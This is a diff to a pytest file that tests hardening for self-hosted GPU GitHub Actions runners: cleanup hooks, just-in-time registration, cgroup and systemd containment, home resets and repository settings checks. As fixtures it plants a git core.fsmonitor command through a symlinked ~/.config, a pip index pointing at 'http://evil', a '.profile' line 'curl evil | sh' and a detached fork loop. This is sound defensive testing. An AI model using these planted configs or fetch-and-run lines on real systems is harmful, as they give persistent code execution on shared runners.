@@ -90,6 +90,7 @@ def fake_runner(tree: Path) -> dict[str, Path]:
         "own_cache": write(home / ".cache/flashmoe-science/act/x"),
         "nv_cache": write(home / ".nv/ComputeCache/index"),
         "gitconfig": write(home / ".gitconfig", "[core]\n\tfsmonitor = evil\n"),
+        "pip_conf": write(home / ".config/pip/pip.conf", "[global]\nindex-url = http://evil\n"),
         "user_site": write(home / ".local/lib/python3.12/site-packages/sitecustomize.py"),
         # kept
         "actions": write(work / "_actions/actions/checkout/sha/action.yml"),
@@ -99,9 +100,8 @@ def fake_runner(tree: Path) -> dict[str, Path]:
         "outside": write(outside / "keep"),
         "outside_pip": write(outside / "pip" / "pip.conf"),
     }
-    # A job's links out of its folders: removed as links, never followed.
+    # A job's link out of its folders: removed as a link, never followed.
     (work / "escape").symlink_to(outside)
-    (home / ".config").symlink_to(outside)
     # A job may leave read-only folders behind.
     (work / "flashmoe-science/flashmoe-science/build").chmod(0o500)
     return paths
@@ -208,14 +208,12 @@ def test_hook_cleans_the_runner_and_home_and_nothing_else(tree, processes):
     assert run.returncode == 0, run.stdout + run.stderr
     for name in ("git_hook", "worktree", "tool", "triton", "pip", "torch_ext", "own_cache"):
         assert not paths[name].exists(), (name, run.stdout)
-    for name in ("nv_cache", "gitconfig", "user_site"):
+    for name in ("nv_cache", "gitconfig", "pip_conf", "user_site"):
         assert not paths[name].exists(), (name, run.stdout)
     for name in ("actions", "temp", "other_cache", "home_file", "outside", "outside_pip"):
         assert paths[name].exists(), (name, run.stdout)
     assert paths["workspace"].is_dir() and not any(paths["workspace"].iterdir())
     assert not os.path.lexists(paths["work"] / "escape")
-    # ~/.config is a link to a folder outside $HOME: ~/.config/pip is not followed into it.
-    assert "skipped" in run.stdout and "symbolic link" in run.stdout
     deadline = time.time() + 10
     while alive(own) and time.time() < deadline:
         time.sleep(0.1)
@@ -223,6 +221,50 @@ def test_hook_cleans_the_runner_and_home_and_nothing_else(tree, processes):
     assert alive(foreign), run.stdout
     assert f"stopped pid {own}" in run.stdout
     assert f"pid {foreign} of user" in run.stdout and "left alone" in run.stdout
+
+
+@pytest.mark.parametrize("linked", [".config", ".cache", ".local"])
+def test_hook_fails_on_a_linked_folder_in_home_before_git_runs_its_config(tree, linked):
+    """An earlier job replaced ~/.config (or ~/.cache, ~/.local) with a link to a folder of its own
+    holding a git config whose core.fsmonitor runs a command: the hook must fail the job, not skip
+    the path, or the job's first `git status` (provenance, the bench's base worktree) runs it."""
+    paths = fake_runner(tree)
+    home, planted = paths["home"], tree / "planted"
+    marker = tree / "fsmonitor-ran"
+    write(planted / "git" / "config", f'[core]\n\tfsmonitor = "touch {marker}; false"\n')
+    write(planted / "pip" / "http" / "x")
+    write(planted / "lib" / "python3.12" / "site-packages" / "sitecustomize.py")
+    shutil.rmtree(home / linked, ignore_errors=True)
+    (home / linked).symlink_to(planted)
+    repo = tree / "repo"
+    subprocess.run(["git", "init", "--quiet", str(repo)], check=True)
+    git_env = {"PATH": "/usr/bin:/bin", "HOME": str(home), "GIT_CONFIG_NOSYSTEM": "1"}
+
+    run = run_hook(tree, paths)
+    if run.returncode == 0:  # the runner takes the job: its checkout's first `git status`
+        subprocess.run(["git", "status"], cwd=repo, env=git_env, capture_output=True, check=False)
+    assert not marker.exists(), "the hook passed and the planted core.fsmonitor ran"
+    assert run.returncode == 1, run.stdout + run.stderr
+    assert f"reached through the symbolic link {home / linked}" in run.stderr
+    assert "next:" in run.stderr
+    assert (planted / "git" / "config").exists(), "the link is never followed"
+    # The same home without the link: git runs no planted command.
+    (home / linked).unlink()
+    subprocess.run(["git", "status"], cwd=repo, env=git_env, capture_output=True, check=True)
+    assert not marker.exists()
+
+
+def test_planted_fsmonitor_runs_on_git_status_through_a_linked_config(tree):
+    """What the hook guards against, shown: git follows ~/.config as a link and runs the command."""
+    home, planted, marker = tree / "home", tree / "planted", tree / "fsmonitor-ran"
+    write(planted / "git" / "config", f'[core]\n\tfsmonitor = "touch {marker}; false"\n')
+    home.mkdir()
+    (home / ".config").symlink_to(planted)
+    repo = tree / "repo"
+    subprocess.run(["git", "init", "--quiet", str(repo)], check=True)
+    env = {"PATH": "/usr/bin:/bin", "HOME": str(home), "GIT_CONFIG_NOSYSTEM": "1"}
+    subprocess.run(["git", "status"], cwd=repo, env=env, capture_output=True, check=False)
+    assert marker.exists()
 
 
 def test_hook_fails_the_job_when_another_user_holds_its_gpu(tree, processes):
@@ -323,20 +365,20 @@ def test_register_dry_run_prints_the_whole_plan_one_runner_per_gpu(tree):
     )
     assert f"sha256sum -c <<< '{sha}  " in out
     assert (
-        f"https://api.github.com/repos/{REPO}/actions/runners/registration-token" in out
+        f"https://api.github.com/repos/{REPO}/actions/runners/generate-jitconfig" in out
         and "curl -X POST" in out
     )
-    config = next(line for line in out.splitlines() if line.startswith("+ ./config.sh"))
-    for flag in (
-        "--unattended",
-        "--ephemeral",
-        "--disableupdate",
-        f"--url https://github.com/{REPO}",
-    ):
-        assert flag in config, config
-    assert "--labels self-hosted,linux,x64,gpu,l4" in config
-    assert re.search(r"--name \S+-gpu0\b", config)
-    assert "--token" not in out  # the registration token travels in config.sh's environment
+    assert "registration-token" not in out and "config.sh" not in out
+    body = json.loads(out.split("/actions/runners/generate-jitconfig\n", 1)[1].splitlines()[0])
+    assert body["labels"] == ["self-hosted", "linux", "x64", "gpu", "l4"]
+    assert re.fullmatch(r"\S+-gpu0-\d+", body["name"]) and body["work_folder"] == "_work"
+    assert body["runner_group_id"] == 1
+    assert "ACTIONS_RUNNER_INPUT_JITCONFIG=<the runner's JIT configuration>" in out
+    assert "--token" not in out and "--jitconfig" not in out  # never on a command line
+    # Between jobs: the user's leftovers, then a fresh runner directory.
+    assert out.index("crontab -r -u flashmoe-runner-gpu0") < out.index("generate-jitconfig")
+    assert "cp -rT /etc/skel /home/flashmoe-runner-gpu0" in out
+    assert "find /tmp -xdev -mindepth 1 -user flashmoe-runner-gpu0 -prune -exec rm -rf" in out
     for gpu in range(3):
         assert (
             f"useradd --system --create-home --shell /usr/sbin/nologin flashmoe-runner-gpu{gpu}"
@@ -369,11 +411,10 @@ def test_register_dry_run_follows_the_environment_overrides():
     )
     assert run.returncode == 0, run.stdout + run.stderr
     assert (
-        f"http://127.0.0.1:9/api/v3/repos/{REPO}/actions/runners/registration-token" in run.stdout
+        f"http://127.0.0.1:9/api/v3/repos/{REPO}/actions/runners/generate-jitconfig" in run.stdout
     )
     assert "<the token in /srv/token>" in run.stdout
-    assert f"--url https://ghe.example/{REPO}" in run.stdout
-    assert "--labels self-hosted,linux,x64,gpu,h100" in run.stdout
+    assert '"labels": ["self-hosted", "linux", "x64", "gpu", "h100"]' in run.stdout
     assert "    CUDA_VISIBLE_DEVICES=2" in run.stdout
 
 
@@ -392,18 +433,21 @@ def test_register_rejects_bad_arguments(args, message):
     assert run.returncode == 2 and message in run.stderr, run.stderr
 
 
-def make_archive(tree: Path) -> Path:
-    """A stand-in runner archive whose config.sh and run.sh record what they were given."""
+def make_archive(tree: Path, job: str = "") -> Path:
+    """A stand-in runner archive whose run.sh records what it was given (its arguments, its JIT
+    configuration, the .env) and then runs `job`, what the one job does. No config.sh: a runner
+    configured just in time never runs it."""
     src = tree / "archive-src"
-    record = 'echo "$0 $*" >> "$PWD/../calls"\n'
-    write(
-        src / "config.sh",
-        "#!/bin/sh\n" + record + 'echo "token=$ACTIONS_RUNNER_INPUT_TOKEN" >> "$PWD/../calls"\n',
+    run_sh = (
+        "#!/bin/sh\n"
+        'echo "$0 $*" >> "$PWD/../calls"\n'
+        'echo "jit=$ACTIONS_RUNNER_INPUT_JITCONFIG" >> "$PWD/../calls"\n'
+        'env | grep -c admin-credential >> "$PWD/../calls" || true\n'
+        'cat .env >> "$PWD/../calls"\n' + job
     )
-    write(src / "run.sh", "#!/bin/sh\n" + record + 'cat .env >> "$PWD/../calls"\n')
+    write(src / "run.sh", run_sh)
     write(src / "bin" / "Runner.Listener", "stand-in")
-    for name in ("config.sh", "run.sh"):
-        (src / name).chmod(0o755)
+    (src / "run.sh").chmod(0o755)
     archive = tree / "runner.tar.gz"
     with tarfile.open(archive, "w:gz") as tar:
         for path in sorted(src.rglob("*")):
@@ -412,17 +456,33 @@ def make_archive(tree: Path) -> Path:
 
 
 class FakeApi(http.server.BaseHTTPRequestHandler):
-    calls: list[tuple[str, str]] = []  # noqa: RUF012 - one server per test
+    """generate-jitconfig for the admin credential; DELETE of a runner."""
+
+    calls: list[tuple[str, str, str, object]] = []  # noqa: RUF012 - one server per test
+
+    def _record(self) -> bool:
+        length = int(self.headers.get("Content-Length") or 0)
+        body = json.loads(self.rfile.read(length)) if length else None
+        auth = self.headers.get("Authorization", "")
+        FakeApi.calls.append((self.command, self.path, auth, body))
+        return auth == "Bearer admin-credential"
+
+    def _send(self, status: int, doc: object) -> None:
+        raw = json.dumps(doc).encode()
+        self.send_response(status)
+        self.send_header("Content-Type", "application/json")
+        self.send_header("Content-Length", str(len(raw)))
+        self.end_headers()
+        self.wfile.write(raw)
 
     def do_POST(self):
-        FakeApi.calls.append((self.path, self.headers.get("Authorization", "")))
-        ok = self.path == f"/repos/{REPO}/actions/runners/registration-token"
-        ok = ok and self.headers.get("Authorization") == "Bearer admin-credential"
-        body = json.dumps({"token": "REG-TOKEN-1"} if ok else {"message": "Bad credentials"})
-        self.send_response(201 if ok else 401)
-        self.send_header("Content-Type", "application/json")
-        self.end_headers()
-        self.wfile.write(body.encode())
+        ok = self._record() and self.path == f"/repos/{REPO}/actions/runners/generate-jitconfig"
+        doc = {"runner": {"id": 42}, "encoded_jit_config": "JIT-CONFIG-1"}
+        self._send(201, doc) if ok else self._send(401, {"message": "Bad credentials"})
+
+    def do_DELETE(self):
+        self._record()
+        self._send(404, {"message": "Not Found"})  # ephemeral: gone after its job
 
     def log_message(self, *args):
         pass
@@ -438,69 +498,333 @@ def fake_api():
     server.shutdown()
 
 
-def test_register_downloads_checks_registers_and_runs_one_job(tree, fake_api):
-    if shutil.which("curl") is None:
-        pytest.skip("register.sh needs curl")
-    archive = make_archive(tree)
-    digest = hashlib.sha256(archive.read_bytes()).hexdigest()
-    token_file = write(tree / "token", "admin-credential")
+def runner_env(tree: Path, archive: Path, fake_api: str, token: str = "admin-credential") -> dict:
+    token_file = write(tree / "token", token)
     token_file.chmod(0o600)
-    env = {
+    return {
         "FLASHMOE_RUNNER_DOWNLOAD_URL": archive.as_uri(),
-        "FLASHMOE_RUNNER_SHA256": "0" * 64,
+        "FLASHMOE_RUNNER_SHA256": hashlib.sha256(archive.read_bytes()).hexdigest(),
         "FLASHMOE_RUNNER_CACHE": str(tree / "cache"),
         "FLASHMOE_RUNNER_ROOT": str(tree / "opt"),
         "FLASHMOE_RUNNER_CONF": str(tree / "no-conf"),
         "FLASHMOE_RUNNER_TOKEN_FILE": str(token_file),
         "GITHUB_API_URL": fake_api,
     }
+
+
+def me() -> str:
+    return subprocess.run(["id", "-un"], capture_output=True, text=True, check=True).stdout.strip()
+
+
+def test_register_downloads_checks_configures_just_in_time_and_runs_one_job(tree, fake_api):
+    """No registration token: one would let a job that reads config.sh's environment
+    (/proc/PID/environ, the runner user's own process) register runners of its own that receive
+    main's jobs. The runner gets a just-in-time configuration, good for itself alone, and the
+    admin credential stays with root."""
+    if shutil.which("curl") is None:
+        pytest.skip("register.sh needs curl")
+    archive = make_archive(tree)
+    env = runner_env(tree, archive, fake_api)
+    env["FLASHMOE_RUNNER_SHA256"] = "0" * 64
     bad = register("download", env=env)
     assert bad.returncode == 1 and "does not have the SHA-256" in bad.stderr, bad.stderr
     assert not list((tree / "cache").glob("*.tar.gz"))
 
-    env["FLASHMOE_RUNNER_SHA256"] = digest
+    env = runner_env(tree, archive, fake_api)
     good = register("download", env=env)
     assert good.returncode == 0, good.stdout + good.stderr
-    me = subprocess.run(["id", "-un"], capture_output=True, text=True, check=True).stdout.strip()
     run = register(
-        "once", "--repo", REPO, "--gpu", "1", "--user", me, "--python", "/usr/bin/python3", env=env
+        "once",
+        "--repo",
+        REPO,
+        "--gpu",
+        "1",
+        "--user",
+        me(),
+        "--python",
+        "/usr/bin/python3",
+        env=env,
     )
     assert run.returncode == 0, run.stdout + run.stderr
-    assert FakeApi.calls == [
-        (f"/repos/{REPO}/actions/runners/registration-token", "Bearer admin-credential")
-    ]
-    calls = (tree / "opt" / "calls").read_text()
-    config = next(line for line in calls.splitlines() if "config.sh" in line)
-    assert "--unattended" in config and "--ephemeral" in config
-    assert "--labels self-hosted,linux,x64,gpu,l4" in config and "-gpu1 " in config
-    assert "REG-TOKEN-1" not in config and "token=REG-TOKEN-1" in calls
-    assert "admin-credential" not in calls  # the runner never sees the admin credential
+    (post, delete) = FakeApi.calls
+    assert post[:3] == (
+        "POST",
+        f"/repos/{REPO}/actions/runners/generate-jitconfig",
+        "Bearer admin-credential",
+    )
+    assert post[3]["labels"] == ["self-hosted", "linux", "x64", "gpu", "l4"]
+    assert re.fullmatch(r"\S+-gpu1-\d+", post[3]["name"]) and post[3]["work_folder"] == "_work"
+    assert post[3]["runner_group_id"] == 1
+    assert delete[:2] == ("DELETE", f"/repos/{REPO}/actions/runners/42")
+    assert not [c for c in FakeApi.calls if "registration-token" in c[1]]
+    calls = (tree / "opt" / "calls").read_text().splitlines()
+    assert calls[0].endswith("run.sh ") or calls[0].endswith("run.sh"), calls[0]
+    assert "JIT-CONFIG-1" not in calls[0], "never on a command line"
+    assert calls[1] == "jit=JIT-CONFIG-1"
+    assert calls[2] == "0", "the admin credential is nowhere in the runner's environment"
+    assert not (tree / "opt" / "gpu1" / "config.sh").exists()
     env_file = (tree / "opt" / "gpu1" / ".env").read_text()
-    assert "CUDA_VISIBLE_DEVICES=1\n" in env_file
-    assert f"FLASHMOE_RUNNER_WORK_DIR={tree}/opt/gpu1/_work\n" in env_file
+    work = f"{tree}/opt/gpu1/_work"
+    assert "CUDA_VISIBLE_DEVICES=1\n" in env_file and "CUDA_DEVICE_ORDER=PCI_BUS_ID\n" in env_file
+    assert f"FLASHMOE_RUNNER_WORK_DIR={work}\n" in env_file
     assert "FLASHMOE_RUNNER_PYTHON=/usr/bin/python3\n" in env_file
     assert f"ACTIONS_RUNNER_HOOK_JOB_STARTED={tree}/opt/bin/cleanup-hook.sh\n" in env_file
     assert "#" not in env_file  # the runner would read a comment holding '=' as a variable
-    assert "run.sh" in calls and calls.index("config.sh") < calls.index("run.sh")
+
+
+def test_a_jobs_temporary_files_and_compiler_caches_live_in_its_runner_temp(tree, fake_api):
+    """torch.compile's cache (/tmp/torchinductor_USER: pickles, no owner check) and Triton's must
+    not be in /tmp, where one GPU's user can create a sibling's and plant what it loads: the
+    runner's .env puts them, and TMPDIR, in the job's RUNNER_TEMP (emptied for every job)."""
+    archive = make_archive(tree)
+    env = runner_env(tree, archive, fake_api)
+    assert register("download", env=env).returncode == 0
+    run = register("once", "--repo", REPO, "--gpu", "0", "--user", me(), env=env)
+    assert run.returncode == 0, run.stdout + run.stderr
+    values = dict(
+        line.split("=", 1) for line in (tree / "opt" / "gpu0" / ".env").read_text().splitlines()
+    )
+    temp = f"{tree}/opt/gpu0/_work/_temp"  # the runner's RUNNER_TEMP
+    assert values["TMPDIR"] == temp and Path(temp).is_dir()
+    assert values["TORCHINDUCTOR_CACHE_DIR"] == f"{temp}/torchinductor"
+    assert values["TRITON_CACHE_DIR"] == f"{temp}/triton"
+
+
+def cgroup_v2_writable() -> bool:
+    mounts = Path("/proc/mounts").read_text().split("\n")
+    mount = next((line.split()[1] for line in mounts if line.split()[2:3] == ["cgroup2"]), None)
+    own = next(
+        (
+            line[3:]
+            for line in Path("/proc/self/cgroup").read_text().splitlines()
+            if line[:3] == "0::"
+        ),
+        None,
+    )
+    return bool(mount and own) and os.access(f"{mount}{own.rstrip('/')}/cgroup.procs", os.W_OK)
+
+
+@pytest.mark.skipif(not cgroup_v2_writable(), reason="needs a writable cgroup v2 (root)")
+def test_what_a_job_leaves_running_is_killed_with_its_cgroup_fork_loop_included(tree, fake_api):
+    """A job that leaves a detached fork loop behind (a new session, a child every 50 ms): a
+    single pkill pass can miss the children born meanwhile, and a pkill -u of the caller's own
+    user is never done. The job runs in a cgroup of its own, killed whole when run.sh returns."""
+    job = (
+        "setsid sh -c 'echo $$ > \"$0\"; while :; do sleep 1000 & sleep 0.05; done' "
+        '"$PWD/../loop.pid" </dev/null >/dev/null 2>&1 &\n'
+        "sleep 1\n"
+    )
+    archive = make_archive(tree, job)
+    env = runner_env(tree, archive, fake_api)
+    assert register("download", env=env).returncode == 0
+    pid = None
+    try:
+        run = register("once", "--repo", REPO, "--gpu", "0", "--user", me(), env=env)
+        pid = int((tree / "opt" / "loop.pid").read_text())
+        assert run.returncode == 0, run.stdout + run.stderr
+        deadline = time.time() + 10
+        while alive(pid) and time.time() < deadline:
+            time.sleep(0.1)
+        assert not alive(pid), "the job's fork loop outlived its job"
+        session = [p for p in Path("/proc").iterdir() if p.name.isdigit() and _sid(p) == pid]
+        assert not [p for p in session if alive(int(p.name))], "children of the loop outlived it"
+        assert "process(es) the job left running" in run.stdout
+    finally:
+        if pid and alive(pid):
+            os.killpg(pid, signal.SIGKILL)
+
+
+def _sid(proc: Path) -> int | None:
+    try:
+        return int((proc / "stat").read_text().rsplit(")", 1)[1].split()[3])
+    except (OSError, IndexError, ValueError):
+        return None
+
+
+def fake_tools(tree: Path, smi_gpus: str = "0, 00000000:17:00.0\n1, 00000000:65:00.0\n") -> Path:
+    """systemd-run (records its arguments, runs the command after --), systemctl (records),
+    crontab, atq and atrm (record), nvidia-smi (two GPUs by PCI address)."""
+    bindir = tree / "tools"
+    bindir.mkdir(exist_ok=True)
+    log = tree / "tools.log"
+    record = f'echo "$(basename "$0") $*" >> {log}\n'
+    scripts = {
+        "systemd-run": record + 'while [ "$1" != "--" ]; do shift; done; shift; exec "$@"\n',
+        "systemctl": record,
+        "crontab": record,
+        "atrm": record,
+        "atq": record
+        + "printf '12\\tThu Dec  4 23:00:00 2026 a %s\\n13\\tThu Dec  4 23:00:00 2026 a root\\n' "
+        '"$ATQ_USER"\n',
+        "nvidia-smi": "printf '" + smi_gpus.replace("\n", "\\n") + "'\n",
+    }
+    for name, body in scripts.items():
+        (bindir / name).write_text("#!/bin/sh\n" + body)
+        (bindir / name).chmod(0o755)
+    return bindir
+
+
+def nvidia_proc(tree: Path) -> Path:
+    """The driver's /proc/driver/nvidia/gpus: GPU 1 (0000:65:00.0) is /dev/nvidia3."""
+    gpus = tree / "nvidia-gpus"
+    write(gpus / "0000:17:00.0" / "information", "Model: \t NVIDIA L4\nDevice Minor: \t 0\n")
+    write(gpus / "0000:65:00.0" / "information", "Model: \t NVIDIA L4\nDevice Minor: \t 3\n")
+    return gpus
+
+
+@pytest.mark.parametrize("device_cgroup", [True, False])
+def test_on_systemd_the_job_runs_in_a_scope_that_opens_its_own_gpu_only(
+    tree, fake_api, device_cgroup
+):
+    """On a systemd host the job's cgroup is a transient scope, stopped whole after run.sh; it
+    also carries a device cgroup (DevicePolicy=closed): the job opens its own GPU's device node
+    and the driver's shared ones, not a sibling runner's GPU (CUDA_VISIBLE_DEVICES alone is a
+    variable the job can change)."""
+    archive = make_archive(tree)
+    env = runner_env(tree, archive, fake_api)
+    assert register("download", env=env).returncode == 0
+    env |= {
+        "FLASHMOE_RUNNER_CONTAIN": "systemd",
+        "FLASHMOE_RUNNER_NVIDIA_PROC": str(nvidia_proc(tree)),
+    }
+    extra = [] if device_cgroup else ["--no-device-cgroup"]
+    bindir = fake_tools(tree)
+    run = register(
+        "once",
+        "--repo",
+        REPO,
+        "--gpu",
+        "1",
+        "--user",
+        me(),
+        *extra,
+        env=env,
+        path_prefix=str(bindir),
+    )
+    assert run.returncode == 0, run.stdout + run.stderr
+    log = (tree / "tools.log").read_text().splitlines()
+    scope = next(line for line in log if line.startswith("systemd-run "))
+    assert "--scope --unit flashmoe-job-gpu1.scope -p KillMode=control-group" in scope
+    if device_cgroup:
+        assert "-p DevicePolicy=closed -p DeviceAllow=/dev/nvidia3 rw" in scope
+        assert "DeviceAllow=/dev/nvidia0" not in scope, "another runner's GPU"
+        assert "-p DeviceAllow=/dev/nvidiactl rw -p DeviceAllow=/dev/nvidia-uvm rw" in scope
+    else:
+        assert "Device" not in scope and "device cgroup: off" in run.stdout
+    assert scope.endswith("-- ./run.sh")
+    after = log[log.index(scope) + 1 :]
+    assert after[:2] == [
+        "systemctl kill --signal=SIGKILL flashmoe-job-gpu1.scope",
+        "systemctl stop flashmoe-job-gpu1.scope",
+    ]
+    assert (tree / "opt" / "calls").read_text().splitlines()[1] == "jit=JIT-CONFIG-1"
 
 
 def test_register_says_what_to_do_when_the_api_refuses(tree, fake_api):
     archive = make_archive(tree)
-    env = {
-        "FLASHMOE_RUNNER_DOWNLOAD_URL": archive.as_uri(),
-        "FLASHMOE_RUNNER_SHA256": hashlib.sha256(archive.read_bytes()).hexdigest(),
-        "FLASHMOE_RUNNER_CACHE": str(tree / "cache"),
-        "FLASHMOE_RUNNER_ROOT": str(tree / "opt"),
-        "FLASHMOE_RUNNER_CONF": str(tree / "no-conf"),
-        "FLASHMOE_RUNNER_TOKEN_FILE": str(write(tree / "token", "wrong")),
-        "GITHUB_API_URL": fake_api,
-    }
+    env = runner_env(tree, archive, fake_api, token="wrong")
     assert register("download", env=env).returncode == 0
-    me = subprocess.run(["id", "-un"], capture_output=True, text=True, check=True).stdout.strip()
-    run = register("once", "--repo", REPO, "--gpu", "0", "--user", me, env=env)
+    run = register("once", "--repo", REPO, "--gpu", "0", "--user", me(), env=env)
     assert run.returncode == 1
     assert "Administration: Read and write" in run.stderr
-    assert not (tree / "opt" / "calls").exists()  # config.sh never ran
+    assert not (tree / "opt" / "calls").exists()  # run.sh never ran
+
+
+# ---- between jobs: the runner user as it was created (register.sh reset, no-cron) ----
+
+
+def idle_system_user() -> str | None:
+    """A user of this machine that runs nothing (the reset kills the user's processes)."""
+    for name in ("games", "lp", "news", "uucp", "proxy", "backup", "list", "irc"):
+        found = subprocess.run(["id", "-u", name], capture_output=True, text=True)
+        idle = subprocess.run(["pgrep", "-u", name], capture_output=True).returncode == 1
+        if found.returncode == 0 and int(found.stdout) > 0 and idle:
+            return name
+    return None
+
+
+@pytest.mark.skipif(not AS_ROOT, reason="only root resets another user")
+def test_reset_recreates_the_home_and_removes_crontab_at_jobs_and_tmp_files(tree):
+    """What a job can leave outside its runner directory for the next job of that user: a home
+    holding a planted git config (core.fsmonitor) or shell start files, its files in the shared
+    temporary folders (a torchinductor_OTHER folder made for a sibling, whatever is inside it),
+    a crontab and `at` jobs. Before each job, as root, all of it goes: the home is recreated
+    from the skeleton."""
+    user = idle_system_user()
+    if user is None:
+        pytest.skip("no idle system user to reset here")
+    home, skel = tree / "home" / user, tree / "skel"
+    write(skel / ".profile", "# skeleton\n")
+    write(home / ".config" / "git" / "config", '[core]\n\tfsmonitor = "touch /tmp/x"\n')
+    write(home / ".profile", "curl evil | sh\n")
+    tmp1, tmp2 = tree / "tmp1", tree / "tmp2"
+    write(tmp1 / "torchinductor_sibling" / "cache.pkl")  # the user's folder, a root file inside
+    write(tmp1 / "own.txt")
+    write(tmp1 / "root.txt")  # stays
+    write(tmp2 / "shared" / "deep" / "own.so")
+    write(tmp2 / "shared" / "keep.txt")  # stays
+    for path in (
+        home,
+        tmp1 / "torchinductor_sibling",
+        tmp1 / "own.txt",
+        tmp2 / "shared/deep/own.so",
+    ):
+        subprocess.run(["chown", "-R", f"{user}:", str(path)], check=True)
+    bindir = fake_tools(tree)
+    run = register(
+        "reset",
+        "--user",
+        user,
+        env={
+            "FLASHMOE_RUNNER_USER_HOME": str(home),
+            "FLASHMOE_RUNNER_SKEL": str(skel),
+            "FLASHMOE_RUNNER_SHARED_TMP": f"{tmp1} {tmp2}",
+            "FLASHMOE_RUNNER_CONF": str(tree / "no-conf"),
+            "ATQ_USER": user,
+        },
+        path_prefix=str(bindir),
+    )
+    assert run.returncode == 0, run.stdout + run.stderr
+    assert sorted(p.name for p in home.iterdir()) == [".profile"]
+    assert (home / ".profile").read_text() == "# skeleton\n"
+    assert home.stat().st_uid == int(subprocess.check_output(["id", "-u", user]))
+    assert sorted(p.name for p in tmp1.iterdir()) == ["root.txt"]
+    assert (tmp2 / "shared" / "keep.txt").exists() and not (tmp2 / "shared/deep/own.so").exists()
+    log = (tree / "tools.log").read_text().splitlines()
+    assert f"crontab -r -u {user}" in log and "atrm 12" in log and "atrm 13" not in " ".join(log)
+
+
+def test_reset_leaves_the_callers_own_user_alone(tree):
+    home = tree / "home"
+    write(home / ".profile", "mine\n")
+    run = register(
+        "--dry-run",
+        "reset",
+        "--user",
+        me(),
+        env={"FLASHMOE_RUNNER_USER_HOME": str(home), "FLASHMOE_RUNNER_CONF": str(tree / "x")},
+    )
+    assert run.returncode == 0 and "is this script's own user" in run.stdout
+    assert (home / ".profile").read_text() == "mine\n"
+
+
+@pytest.mark.skipif(not AS_ROOT, reason="no-cron writes files as root")
+def test_no_cron_keeps_the_runner_users_out_of_cron_and_at(tree):
+    """A process cron or at starts belongs to no job's cgroup: it outlives the job and runs beside
+    the next one. The runner users are taken out of cron.allow (other users stay), and where no
+    at.allow exists they are listed in at.deny."""
+    etc = tree / "etc"
+    write(etc / "cron.allow", "alice\nflashmoe-runner-gpu1\n")
+    write(etc / "at.deny", "daemon\n")
+    env = {"FLASHMOE_RUNNER_ETC": str(etc), "FLASHMOE_RUNNER_CONF": str(tree / "no-conf")}
+    for _ in range(2):  # a second run changes nothing
+        run = register("no-cron", "--gpus", "0,1", env=env)
+        assert run.returncode == 0, run.stdout + run.stderr
+        assert (etc / "cron.allow").read_text() == "alice\n"
+        assert (etc / "at.deny").read_text() == (
+            "daemon\nflashmoe-runner-gpu0\nflashmoe-runner-gpu1\n"
+        )
+        assert not (etc / "at.allow").exists() and not (etc / "cron.deny").exists()
 
 
 # ---- the driver and nvcc torch's CUDA needs ----
@@ -617,7 +941,7 @@ def test_settings_all_good(tmp_path):
     run = check_settings(FIXTURES / "settings-good.json", tmp_path)
     assert run.returncode == 0, run.stdout + run.stderr
     assert [line.split()[:2] for line in run.stdout.splitlines() if line[:1] in "ow"] == [
-        ["ok", str(n)] for n in (1, 2, 3, 4, 5, 6, 8, 10)
+        ["ok", str(n)] for n in (1, 2, 3, 4, 5, 6, 8, 10, 11, 12)
     ]
 
 
@@ -646,7 +970,57 @@ def test_settings_all_good(tmp_path):
             "FAIL  3  environment `gpu` has no required reviewers",
         ),
         ("labels/safe-to-test", None, "FAIL  4  label `safe-to-test` does not exist"),
-        ("rules/branches/main", [], "FAIL  8  main does not require the GPU gate"),
+        (
+            "rules/branches/main",
+            [],
+            "FAIL  8  main does not require the commit status `flashmoe-science/gpu`",
+        ),
+        (
+            "rules/branches/main",
+            [
+                {
+                    "type": "required_status_checks",
+                    "parameters": {
+                        "required_status_checks": [
+                            {"context": "flashmoe-science/gpu", "integration_id": 99}
+                        ]
+                    },
+                }
+            ],
+            "FAIL  8  `flashmoe-science/gpu` is required from app [99]",
+        ),
+        ("environments/pypi", None, "FAIL  11  environment `pypi` does not exist"),
+        (
+            "environments/pypi",
+            {"name": "pypi", "protection_rules": []},
+            "FAIL  11  environment `pypi` has no required reviewers",
+        ),
+        (
+            "environments/pypi/deployment-branch-policies",
+            {"branch_policies": [{"name": "v*", "type": "tag"}, {"name": "*", "type": "branch"}]},
+            "FAIL  11  environment `pypi` deploys from branch *, not tags v*",
+        ),
+        (
+            "rulesets?includes_parents=true&per_page=100",
+            [{"id": 5, "name": "release tags", "target": "tag", "enforcement": "evaluate"}],
+            "FAIL  12  no active tag ruleset restricts creating, moving and deleting v* tags",
+        ),
+        (
+            "rulesets/5",
+            {
+                "conditions": {"ref_name": {"include": ["refs/tags/release-*"]}},
+                "rules": [{"type": "creation"}, {"type": "update"}, {"type": "deletion"}],
+            },
+            "FAIL  12  no active tag ruleset",
+        ),
+        (
+            "rulesets/5",
+            {
+                "conditions": {"ref_name": {"include": ["~ALL"]}},
+                "rules": [{"type": "deletion"}],
+            },
+            "FAIL  12  no active tag ruleset",
+        ),
         (
             "rules/branches/bench-history",
             [{"type": "deletion"}, {"type": "pull_request"}],
@@ -669,6 +1043,33 @@ def test_settings_flag_a_bad_setting(tmp_path, path, change, message):
     run = check_settings(answers, tmp_path)
     assert run.returncode == 1, run.stdout
     assert message in run.stdout and "fix:" in run.stdout
+
+
+@pytest.mark.parametrize("with_status", [False, True])
+def test_settings_fail_when_main_requires_the_gate_jobs_check(tmp_path, with_status):
+    """Requiring the check `gpu-gate` is spoofable or never satisfiable: pull_request_target
+    attaches the gate job's check run to main's commit, so on a PR's head a check of that name can
+    only come from the PR's own `pull_request` workflow (a fork adds a job named gpu-gate). Only
+    the commit status the gate sets on the head counts."""
+    answers = good_answers()
+    checks = [{"context": "gpu-gate", "integration_id": 15368}]
+    if with_status:
+        checks.append({"context": "flashmoe-science/gpu", "integration_id": 15368})
+    answers[f"repos/{REPO}/rules/branches/main"] = [
+        {"type": "required_status_checks", "parameters": {"required_status_checks": checks}}
+    ]
+    run = check_settings(answers, tmp_path)
+    assert run.returncode == 1, run.stdout
+    assert "FAIL  8  main requires the check `gpu-gate`" in run.stdout
+    assert "add `flashmoe-science/gpu`" in run.stdout and "remove `gpu-gate`" in run.stdout
+    # Branch protection (no ruleset) the same way.
+    answers[f"repos/{REPO}/rules/branches/main"] = []
+    answers[f"repos/{REPO}/branches/main/protection/required_status_checks"] = {
+        "contexts": ["gpu-gate"],
+        "checks": [{"context": "gpu-gate", "app_id": 15368}],
+    }
+    run = check_settings(answers, tmp_path)
